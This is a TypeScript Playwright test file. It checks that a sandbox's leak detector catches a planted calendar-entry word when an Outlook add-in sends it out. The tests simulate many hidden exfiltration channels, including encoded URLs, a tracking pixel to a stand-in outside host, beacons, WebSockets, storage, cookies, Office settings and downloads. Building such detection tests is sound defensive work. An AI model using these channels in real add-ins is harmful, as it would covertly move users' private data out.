import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test as base, type Frame, type Page } from '@playwright/test';
import { canaryWord } from './canaries/canaryWords';
import type { OwnWrite } from './canaries/ownWrites';
import { watchCanaries, type CanaryWatch } from './canaries/watchCanaries';
import { startSandbox, type RunningSandbox } from './runningSandbox';

/** What every test is watched for, held against an add-in that leaks: here the test itself, in the add-in's frame. */
interface Leaking {
  readonly page: Page;
  readonly sandbox: RunningSandbox;
  readonly watch: CanaryWatch;
  readonly addin: Frame;
  /** Of one own entry: its id, and a word of its title. */
  readonly entry: { readonly id: string; readonly word: string };
}

const test = base.extend<{ declared: OwnWrite[]; leaking: Leaking }>({
  declared: [[], { option: true }],
  leaking: async ({ page, declared }, provide) => {
    const sandbox = await startSandbox();
    const watch = await watchCanaries(page, sandbox, declared);
    await page.goto(sandbox.origins.outlook);
    await sandbox.openAppointment(page);
    await page.getByRole('button', { name: 'Partner Sharing' }).click();
    await page.frameLocator('iframe[title="Partner Sharing"]').getByRole('heading', { level: 1 }).waitFor();
    const addin = page.frames().find((frame) => frame.url().includes('/taskpane.html'));
    const { mailboxes, me } = sandbox.world();
    const [code, id] =
      [...watch.planted].find(([, event]) => mailboxes.get(me)?.calendars.some(({ events }) => events.has(event))) ??
      [];
    if (!addin || code === undefined || id === undefined) throw new Error('There is nothing to leak.');
    await provide({ page, sandbox, watch, addin, entry: { id, word: canaryWord('subject', code) } });
    await sandbox.close();
  },
});

/** Opens a web socket to whoever asks (RFC 6455 section 1.3), and listens no further. */
const startSocketServer = (): Promise<Server> => {
  const server = createServer().on('upgrade', ({ headers }, socket) => {
    const key = `${headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accept = createHash('sha1').update(key).digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
  });
  return new Promise((resolve) => server.listen(0, 'localhost', () => resolve(server)));
};

type LeakWay = (leaking: Leaking) => Promise<unknown>;

/** A leak by the script in the add-in's page. */
const inAddin =
  (run: (word: string) => unknown): LeakWay =>
  ({ addin, entry }) =>
    addin.evaluate(run, entry.word);

const ways: readonly [sentence: string, way: LeakWay, where: string][] = [
  ['an address', inAddin((word) => fetch(`https://graph.microsoft.com/v1.0/me?$search=${word}`)), 'address'],
  ['an address, in base64', inAddin((word) => fetch(`/register.json?x=${btoa(`1${word}`)}`)), 'address'],
  [
    'an address elsewhere, percent-encoded',
    inAddin((word) => {
      const letters = [...word].map((one) => `%${one.charCodeAt(0).toString(16)}`).join('');
      new Image().src = `https://elsewhere.example/pixel?${letters}`;
    }),
    'address',
  ],
  ['a header', inAddin((word) => fetch('/register.json', { headers: { 'X-Title': word } })), 'header'],
  [
    'a body',
    inAddin((word) => fetch('https://graph.microsoft.com/v1.0/me/events', { method: 'POST', body: word })),
    'body of POST',
  ],
  ['a beacon', inAddin((word) => navigator.sendBeacon('/seen', word)), 'body of POST'],
  [
    'a web socket',
    async ({ addin, entry }) => {
      const server = await startSocketServer();
      const address = `ws://localhost:${(server.address() as AddressInfo).port}/`;
      await addin.evaluate(
        ([to, word]) =>
          new Promise<void>((resolve) => {
            const socket = new WebSocket(to);
            socket.onopen = () => resolve(socket.send(word));
          }),
        [address, entry.word] as const,
      );
      server.closeAllConnections();
      server.close();
    },
    'web socket',
  ],
  ['the console', inAddin((word) => console.log('found', word)), 'console'],
  ['the console, deep in an object', inAddin((word) => console.warn({ a: { b: { c: { d: word } } } })), 'console'],
  [
    'an error that nobody catches',
    inAddin((word) => {
      setTimeout(() => {
        throw new Error(word);
      });
    }),
    'console',
  ],
  ['local storage', inAddin((word) => localStorage.setItem('x', word)), 'localStorage'],
  ['session storage', inAddin((word) => sessionStorage.setItem(word, 'x')), 'sessionStorage'],
  [
    'a database',
    inAddin(
      (word) =>
        new Promise((resolve) => {
          const opening = indexedDB.open('x');
          opening.onupgradeneeded = () => opening.result.createObjectStore('rows').put({ title: word }, 1);
          opening.onsuccess = () => resolve(opening.result.close());
        }),
    ),
    'indexedDB',
  ],
  ['a cache', inAddin(async (word) => (await caches.open('x')).put('/x', new Response(word))), 'caches'],
  ['a cookie', inAddin((word) => void (document.cookie = `x=${word}`)), 'cookies'],
  [
    'session data',
    inAddin((word) => {
      const { sessionData } = Office.context.mailbox.item as Office.AppointmentCompose;
      return new Promise((resolve) => sessionData.setAsync('x', word, resolve));
    }),
    'call to Outlook',
  ],
  [
    'custom properties',
    inAddin(
      (word) =>
        new Promise((resolve) =>
          Office.context.mailbox.item?.loadCustomPropertiesAsync(({ value }) => {
            value.set('x', word);
            value.saveAsync(resolve);
          }),
        ),
    ),
    'custom properties',
  ],
  [
    'roaming settings',
    inAddin((word) => {
      Office.context.roamingSettings.set('x', word);
      return new Promise((resolve) => Office.context.roamingSettings.saveAsync(resolve));
    }),
    'roaming settings',
  ],
  [
    'a file of the app folder',
    async ({ sandbox, entry }) => {
      const { mailboxes, me } = sandbox.world();
      mailboxes.get(me)?.files.set('history.json', { text: entry.word, version: 1 });
    },
    'files in the app folder',
  ],
  [
    'a downloaded file',
    async ({ page, addin, entry }) => {
      const download = page.waitForEvent('download');
      await addin.evaluate((word) => {
        const link = document.createElement('a');
        link.href = URL.createObjectURL(new Blob([`title\n${btoa(word)}`]));
        link.download = 'shares.csv';
        link.click();
      }, entry.word);
      await download;
    },
    'file',
  ],
];

test('GOV-09: a word of an entry is found wherever an add-in can leave it', async ({ leaking }) => {
  expect(await leaking.watch.leaks(), 'the add-in alone leaks nothing').toEqual([]);
  for (const [sentence, way, where] of ways) {
    const found = async () => (await leaking.watch.leaks()).filter((leak) => leak.where === where).length;
    const before = await found();
    await way(leaking);
    await expect.poll(found, sentence).toBeGreaterThan(before);
  }
});

const change = ({ addin, entry }: Leaking, id: string): Promise<unknown> =>
  addin.evaluate(({ address, word }) => fetch(address, { method: 'PATCH', body: JSON.stringify({ subject: word }) }), {
    address: `https://graph.microsoft.com/v1.0/me/events/${encodeURIComponent(id)}`,
    word: entry.word,
  });

test.describe('own writes', () => {
  test.use({ declared: [{ method: 'PATCH', path: /^\/v1\.0\/me\/events\// }] });

  test('GOV-09: words may go into the own entry that they are of, and into no other', async ({ leaking }) => {
    expect(leaking.watch.neverMade()).toEqual(['PATCH /^\\/v1\\.0\\/me\\/events\\//']);
    await change(leaking, leaking.entry.id);
    expect(await leaking.watch.leaks()).toEqual([]);
    expect(leaking.watch.neverMade()).toEqual([]);
    await change(leaking, 'another-entry');
    expect((await leaking.watch.leaks()).map(({ where }) => where)).toEqual(['body of PATCH']);
  });
});

test('GOV-09: what was not declared is found in the own entry too', async ({ leaking }) => {
  await change(leaking, leaking.entry.id);
  expect((await leaking.watch.leaks()).map(({ where }) => where)).toEqual(['body of PATCH']);
});
